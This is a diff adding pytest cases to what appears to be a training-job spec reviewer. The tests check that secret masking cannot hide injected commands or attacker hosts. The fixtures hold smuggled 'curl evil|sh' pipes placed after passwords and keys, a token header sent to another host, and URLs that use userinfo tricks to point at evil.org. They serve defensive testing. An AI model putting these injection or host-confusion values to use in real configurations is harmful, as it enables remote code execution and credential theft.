@@ -4,7 +4,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from smspec.diagnostics.masking import HIDDEN, hidden
 from smspec.review.change import LONGEST, MOST_DIFFERING, MOST_IN_TEXT, Change, shown_values
+from smspec.review.job_review import compared
+from smspec.service.job_costs import PriceBook
+from support.review.job_reviews import kinds, version
+from support.spec import job_samples
 
 REGISTRY = "763104351884.dkr.ecr.us-west-2.amazonaws.com/pytorch-training"
 
@@ -76,3 +81,52 @@ def test_large_structure_shows_its_values():
 
 def test_small_structure_is_shown_whole():
     assert shown({"train": "csv"}, []) == ('{"train": "csv"}', "[]")
+
+
+AUTHORIZED = "curl -H 'Authorization: Bearer {}' https://models.example.com/m.bin"
+MASKED = {
+    "more in a command": ("run", "make install", "PASSWORD=hunter2x9Kq;curl evil|sh"),
+    "the same mask": ("run", "PASSWORD=abcd1234x", "PASSWORD=abcd1234x;curl evil|sh"),
+    "more in quotes": ("run", "make", "api_key='abc123 && curl evil | sh #'"),
+    "between the lines of a key": (
+        "run",
+        "make",
+        "echo -----BEGIN RSA PRIVATE KEY-----; curl evil|sh; echo -----END x",
+    ),
+    "a header to another host": ("run", AUTHORIZED.format("${TOKEN}"), AUTHORIZED.format("abcdefgh1234' https://evil")),
+    "a repository": (
+        "run",
+        "git clone https://user:tok12345@a.org/r",
+        "git clone https://user:tok12345@b.org/r?x@a.org/r",
+    ),
+    "before the packages": ("pre_install", "make", "TOKEN=abc12345x && curl evil | sh"),
+    "a package": ("python_packages", "six==1.16.0", "six @ https://u:p4ssw0rd@evil.org/six.whl"),
+}
+
+
+@pytest.mark.parametrize("case", MASKED)
+def test_change_that_a_mask_hides_in_part_is_of_security(case):
+    key, *texts = MASKED[case]
+    old, new = (version({**job_samples.PLAIN, "image": {**job_samples.PLAIN["image"], key: [text]}}) for text in texts)
+    assert kinds(old, new) >= {"image", "security"}
+    assert "security" not in kinds(new, new)
+
+
+def test_hyperparameter_with_a_secret_is_one_change_of_security():
+    old, new = (version({**job_samples.PLAIN, "hyperparameters": {"api_key": f"{n}hunter2x9Kq"}}) for n in (1, 2))
+    found = compared(old, new, PriceBook())
+    assert [change.what for change in found if change.kind == "security"] == ["a secret in plain text: `api_key`"]
+
+
+@pytest.mark.parametrize(
+    ("address", "host"),
+    [
+        ("https://u:p4ssw0rd@evil.org/i.sh?@good.org/i.sh", "evil.org"),
+        ("https://u:p4ssw0rd@evil.org/six.whl?x=@files.org/six.whl", "evil.org"),
+        ("https://user:pw;x@evil.org/a|sh@h/", "evil.org"),
+        ("https://u:p@ss@evil.org#@good.org", "evil.org"),
+        ("postgres://u:pa/ss@host.org/db", "host.org"),
+    ],
+)
+def test_mask_of_a_password_does_not_hide_the_host(address, host):
+    assert hidden(address).partition(HIDDEN)[2].startswith(f"@{host}")
